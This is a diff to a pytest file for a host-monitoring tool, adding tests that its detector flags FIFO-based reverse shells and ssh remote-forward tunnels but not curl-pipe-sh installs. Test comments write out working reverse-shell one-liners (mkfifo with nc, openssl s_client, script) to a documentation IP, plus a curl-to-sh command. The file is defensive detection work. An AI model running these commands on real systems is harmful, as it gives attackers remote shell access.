@@ -8,7 +8,7 @@ import pytest
 from support import Collect
 
 from tracer import config as config_module
-from tracer.capture import CaptureError, replay
+from tracer.capture import CaptureError, entries, replay
 from tracer.outputs import Fanout, KindFilter
 from tracer.schema import EcsEncoder
 
@@ -58,6 +58,44 @@ def test_reverse_shells_alert_once_each():
 def test_benign_work_raises_nothing():
     # a 4 MB curl download, `ssh host true`, a DNS query, a keep-alive HTTP session
     assert alerts("benign.capture", SHORT) == []
+
+
+@pytest.mark.parametrize("helper", ["nc", "openssl", "nc-pty"])
+def test_shell_fed_and_answered_through_a_fifo(helper):
+    # rm -f F; mkfifo F; cat F | /bin/sh -i 2>&1 | nc 198.51.100.1 4451 > F   (openssl: sh -i < F 2>&1 |
+    # openssl s_client -quiet -connect 198.51.100.1:4452 > F; nc-pty: cat F | script -qfc '/bin/sh -i'
+    # /dev/null 2>&1 | nc ...); the test host sent `echo pwned-$((6*7)); exit`
+    docs = alerts(f"pipes_fifo_reverse_shell_{helper}.capture")
+    assert rules(docs) == ["reverse_shell"]
+    message = docs[0]["message"]
+    assert helper.split("-")[0] in message and "fifo:[" in message and "`/bin/sh -i`" in message, message
+    assert ("pty:[" in message) == (helper == "nc-pty"), message
+    assert docs[0]["process"]["args"] == ["/bin/sh", "-i"]
+    assert docs[0]["destination"]["ip"] == "198.51.100.1" and docs[0]["network"]["community_id"]
+
+
+def test_curl_pipe_sh_is_no_reverse_shell():
+    # curl -s http://198.51.100.1:8090/install.sh | sh | cat, where the script runs curl again; the server
+    # sends the script in two parts 2 s apart, so that curl feeds sh while it runs
+    capture = FIXTURES / "pipes_curl_pipe_sh_is_no_reverse_shell.capture"
+    assert alerts(capture.name) == []
+    # not vacuous: /proc was read while curl held its connection and wrote into the pipe sh reads
+    files, fed = {}, False
+    for entry in entries(capture):
+        if entry[0] == "files" and entry[2]:
+            files[entry[1]] = entry[2]
+        elif entry[0] == "socks" and any(remote[1] == 8090 and state == "established"
+                                         for _t, _local, remote, state in entry[2].values()):
+            writes = {ident for _fd, kind, ident, mode in files[entry[1]] if kind == "pipe" and "w" in mode}
+            fed |= any(fd == 0 and ident in writes for held in files.values() for fd, _k, ident, _m in held)
+    assert fed
+
+
+def test_ssh_config_with_remote_forward():
+    # ssh -F cfg -N backup, where cfg's "Host backup" sets RemoteForward 9000 127.0.0.1:8000; used from outside
+    docs = alerts("pipes_ssh_remote_forward_in_a_config_file.capture")
+    assert rules(docs) == ["reverse_tunnel"]
+    assert "remoteforward 9000 [127.0.0.1]:8000" in docs[0]["message"], docs[0]["message"]
 
 
 def test_a_file_that_is_no_capture_is_a_clear_error(tmp_path):
